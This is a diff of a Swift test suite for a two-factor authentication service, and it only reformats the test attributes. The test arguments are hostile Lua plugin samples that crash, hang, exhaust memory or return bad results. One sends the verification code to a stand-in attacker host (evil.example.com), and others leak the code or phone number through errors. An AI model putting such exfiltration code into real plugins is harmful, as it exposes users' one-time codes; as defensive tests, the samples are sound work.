@@ -255,13 +255,16 @@ struct TwoFactorServiceTests {
 
     // MARK: Plugins that fail
 
-    @Test("stays closed when nothing left: even the right code opens nothing", arguments: [
-        "error('boom')", "while true do end", "local t = {} while true do t[#t + 1] = ('x'):rep(100000) end", "return nil", "return 'accepted'",
-        "return { ok = true, status = 'approved', channel = 'sms' }", "return { ok = true, status = 'rejected', channel = 'sms' }",
-        "return { ok = true, result = 'accepted' }",
-        "return { ok = false, error = { code = 'provider_error', message = 'no', retryable = false, outcome = 'rejected' } }",
-        "ctx.http.post('https://evil.example.com/', { json = { code = req.code } })",
-    ])
+    @Test(
+        "stays closed when nothing left: even the right code opens nothing",
+        arguments: [
+            "error('boom')", "while true do end", "local t = {} while true do t[#t + 1] = ('x'):rep(100000) end", "return nil",
+            "return 'accepted'",
+            "return { ok = true, status = 'approved', channel = 'sms' }", "return { ok = true, status = 'rejected', channel = 'sms' }",
+            "return { ok = true, result = 'accepted' }",
+            "return { ok = false, error = { code = 'provider_error', message = 'no', retryable = false, outcome = 'rejected' } }",
+            "ctx.http.post('https://evil.example.com/', { json = { code = req.code } })",
+        ])
     func closed(deliver: String) async throws {
         try await Bench.with(Bench.plugin(deliver)) { bench in
             let challenge = try await bench.enroll()
@@ -274,10 +277,13 @@ struct TwoFactorServiceTests {
         }
     }
 
-    @Test("takes a code for sent when nobody knows, and asks for it all the same", arguments: [
-        "\(FactorBench.delivers) ", "/codes') error('boom')", "/codes') while true do end", "/close') return { ok = false, error = { code = 'timeout', message = 'x', outcome = 'not_sent' } }",
-        "/codes') return nil",
-    ])
+    @Test(
+        "takes a code for sent when nobody knows, and asks for it all the same",
+        arguments: [
+            "\(FactorBench.delivers) ", "/codes') error('boom')", "/codes') while true do end",
+            "/close') return { ok = false, error = { code = 'timeout', message = 'x', outcome = 'not_sent' } }",
+            "/codes') return nil",
+        ])
     func unknown(deliver: String) async throws {
         let start = "local answer = ctx.http.post('https://api.example.com/v1"
         try await Bench.with(Bench.plugin(deliver.hasPrefix("/") ? start + deliver : deliver)) { bench in
@@ -294,13 +300,15 @@ struct TwoFactorServiceTests {
         }
     }
 
-    @Test("shows neither plugin nor trail nor database a code or a destination", arguments: [
-        FactorBench.delivers,
-        "error('cannot send to ' .. req.destination .. ' the code ' .. tostring(req.code))",
-        "local r = ctx.http.post('https://api.example.com/v1/echo', { json = { code = req.code, to = req.destination } }) error(r.body:sub(-200))",
-        "return { ok = false, error = { code = 'provider_error', message = 'no way to ' .. req.destination, provider_message = req.destination, outcome = 'rejected' } }",
-        "return { ok = true, status = req.destination, channel = req.destination }",
-    ], ["+4915112345678", "4915112345679"])
+    @Test(
+        "shows neither plugin nor trail nor database a code or a destination",
+        arguments: [
+            FactorBench.delivers,
+            "error('cannot send to ' .. req.destination .. ' the code ' .. tostring(req.code))",
+            "local r = ctx.http.post('https://api.example.com/v1/echo', { json = { code = req.code, to = req.destination } }) error(r.body:sub(-200))",
+            "return { ok = false, error = { code = 'provider_error', message = 'no way to ' .. req.destination, provider_message = req.destination, outcome = 'rejected' } }",
+            "return { ok = true, status = req.destination, channel = req.destination }",
+        ], ["+4915112345678", "4915112345679"])
     func leaks(deliver: String, number: String) async throws {
         // The hint would give all of it away.
         try await Bench.with(Bench.plugin(deliver, hint: "'call ' .. number")) { bench in
